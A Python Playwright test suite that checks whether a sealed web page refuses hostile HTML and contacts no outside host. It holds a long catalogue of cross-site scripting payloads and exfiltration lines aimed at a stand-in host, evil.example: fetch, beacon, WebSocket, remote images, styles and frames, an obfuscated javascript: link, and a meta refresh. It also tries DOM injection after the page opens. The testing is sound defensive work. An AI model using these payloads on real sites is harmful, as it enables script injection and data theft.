"""A sealed body that tries to run something, or to tell somebody that it was opened."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from playwright.sync_api import Browser, Page

from site_builder.look.words import catalogue
from site_builder.private import sealed_page
from site_builder.private.envelope import Press, seal
from site_builder.private.sealed_page import Mould, mould
from tests.private.browsing import MOULD, OPEN, SECRET, WRONG, Host, alone, hosted, state

EVIL = "http://evil.example"
HOSTILE = {
    "script": "<script>attack()</script>",
    "script in a drawing": "<svg><script>attack()</script></svg>",
    "script from elsewhere": f"<script src='{EVIL}/x.js'></script>",
    "module": f"<script type=module>import '{EVIL}/x.js'</script>",
    "fetch": f"<script>fetch('{EVIL}/x')</script>",
    "socket": "<script>new WebSocket('ws://evil.example/x')</script>",
    "beacon": f"<script>navigator.sendBeacon('{EVIL}/x')</script>",
    "window": f"<script>window.open('{EVIL}/x')</script>",
    "handler of an image": "<img src=x onerror=attack()>",
    "handler of a drawing": "<svg onload=attack()></svg>",
    "handler of a fold": "<details open ontoggle=attack()><summary>x</summary></details>",
    "handler of focus": "<input autofocus onfocus=attack()>",
    "handler in capitals": "<IMG SRC=x ONERROR=attack()>",
    "animation": "<svg><animate onbegin=attack() attributeName=x dur=1s></svg>",
    "animated link": "<svg><a><set attributeName=href to='javascript:attack()'></a></svg>",
    "image": f"<img src='{EVIL}/x.png'>",
    "image from https": "<img src='https://evil.example/x.png'>",
    "image of several sizes": f"<img srcset='{EVIL}/x.png 1x'>",
    "image beside": "<img src='x.png'>",
    "picture": f"<picture><source srcset='{EVIL}/x.png'><img></picture>",
    "image in a drawing": f"<svg><image href='{EVIL}/x.png'/></svg>",
    "drawing from elsewhere": f"<svg><use href='{EVIL}/x.svg#a'/></svg>",
    "old drawing from elsewhere": f"<svg><use xlink:href='{EVIL}/x.svg#a'/></svg>",
    "HTML in a drawing": "<svg><foreignObject><iframe srcdoc='x'></iframe></foreignObject></svg>",
    "background": f"<table background='{EVIL}/x.png'><tr><td>x</table>",
    "style": f"<style>body{{background:url({EVIL}/x.png)}}</style>",
    "style that imports": f"<style>@import '{EVIL}/x.css'</style>",
    "style of an element": f"<p style='background:url({EVIL}/x.png)'>x</p>",
    "style sheet": f"<link rel=stylesheet href='{EVIL}/x.css'>",
    "prefetch": f"<link rel=prefetch href='{EVIL}/x'>",
    "preload": f"<link rel=preload as=image href='{EVIL}/x.png'>",
    "connection": f"<link rel=preconnect href='{EVIL}'>",
    "manifest": f"<link rel=manifest href='{EVIL}/x'>",
    "frame": f"<iframe src='{EVIL}/x'></iframe>",
    "frame with a script": "<iframe srcdoc='<script>parent.attack()</script>'></iframe>",
    "frames": f"<frameset><frame src='{EVIL}/x'></frameset><iframe></iframe>",
    "object": f"<object data='{EVIL}/x'></object>",
    "embed": f"<embed src='{EVIL}/x'>",
    "video": f"<video src='{EVIL}/x' autoplay></video>",
    "poster": f"<video poster='{EVIL}/x.png'></video>",
    "form": f"<form action='{EVIL}/x'><button>x</button></form>",
    "base": f"<base href='{EVIL}/'>",
    "template": "<template><script>attack()</script></template>",
    "shadow": "<div><template shadowrootmode=open><script>attack()</script></template></div>",
    "element of its own": "<x-attack></x-attack>",
    "mathematics": "<math><mtext><script>attack()</script></mtext></math>",
    "a ping": f"<a href='#x' ping='{EVIL}/x'>x</a>",
    "a link that is a script": "<a href='javascript:attack()'>x</a>",
    "a disguised one": "<a href=' &#x6a;ava&Tab;script:attack()'>x</a>",
    "a link that is data": "<a href='data:text/html,<script>attack()</script>'>x</a>",
    "a link in a drawing": "<svg><a xlink:href='javascript:attack()'><text>x</text></a></svg>",
    "an end of the page": "</body></html><script>attack()</script>",
}
# What a policy cannot forbid, so that only the look at the elements stands against it.
MOVES = f"<meta http-equiv=refresh content='0;url={EVIL}/x'>"
GATE = "must(Array.from(body.querySelectorAll(\"*\")).every(isSafe));"


@contextmanager
def opened(browser: Browser, body: str, shape: Mould = MOULD) -> Iterator[tuple[Page, Host]]:
    """The page with this body, opened; the host is also the proxy for all the world."""
    file = shape.page(seal(Press().packed(f"<p>Noor</p>{body}"), SECRET))
    with hosted({"/": file}) as host, alone(browser, proxy={"server": host.address}) as page:
        page.add_init_script("self.attacks = 0; self.attack = () => { self.attacks += 1 }")
        page.goto(f"{host.address}/#{SECRET.link}")
        state(page)
        page.wait_for_timeout(150)
        yield page, host


@pytest.fixture(scope="module")
def gateless() -> Mould:
    """A mould whose script places whatever it finds, so that the policy stands alone."""
    whole = sealed_page.source
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sealed_page, "source", lambda *names: whole(*names).replace(GATE, ""))
        made = mould(catalogue(), "en", "ltr")
    assert GATE.encode("ascii") in MOULD.after
    assert GATE.encode("ascii") not in made.after
    return made


@pytest.mark.browser
@pytest.mark.parametrize("kind", [*HOSTILE, "refresh"])
def test_a_hostile_body_is_refused_whole_and_asks_for_nothing(kind: str, browser: Browser) -> None:
    body = HOSTILE.get(kind, MOVES)
    with opened(browser, body) as (page, host):
        if kind in ("style", "style that imports"):
            assert state(page) == OPEN, "a style that is not known is placed, and has no effect"
        else:
            assert state(page) == WRONG
            assert page.get_by_text("Noor").count() == 0
        _nothing_happened(page, host)


@pytest.mark.browser
@pytest.mark.parametrize("kind", HOSTILE)
def test_the_policy_alone_holds_too(kind: str, browser: Browser, gateless: Mould) -> None:
    with opened(browser, HOSTILE[kind], gateless) as (page, host):
        assert state(page) == OPEN
        for link in page.locator("body > :not(main) a, body > a").all():
            link.dispatch_event("click")
        page.wait_for_timeout(50)
        _nothing_happened(page, host)


@pytest.mark.browser
def test_nothing_can_be_made_of_a_text_once_the_page_is_open(browser: Browser) -> None:
    with opened(browser, "<p>x</p>") as (page, host):
        for attempt in (
            "document.body.innerHTML = '<img src=x onerror=attack()>'",
            "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
            "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
            "trustedTypes.createPolicy('continuum', {createHTML: it => it})",
            "trustedTypes.createPolicy('default', {createHTML: it => it})",
            "document.createElement('script').text = 'attack()'",
        ):
            assert page.evaluate(f"() => {{ try {{ {attempt}; return 'made' }} catch {{ return 'refused' }} }}") == "refused"
        _nothing_happened(page, host)


def _nothing_happened(page: Page, host: Host) -> None:
    assert page.evaluate("self.attacks") == 0
    assert host.asked == [f"{host.address}/"], "the page itself, and nothing else in all the world"
    assert page.context.pages == [page]
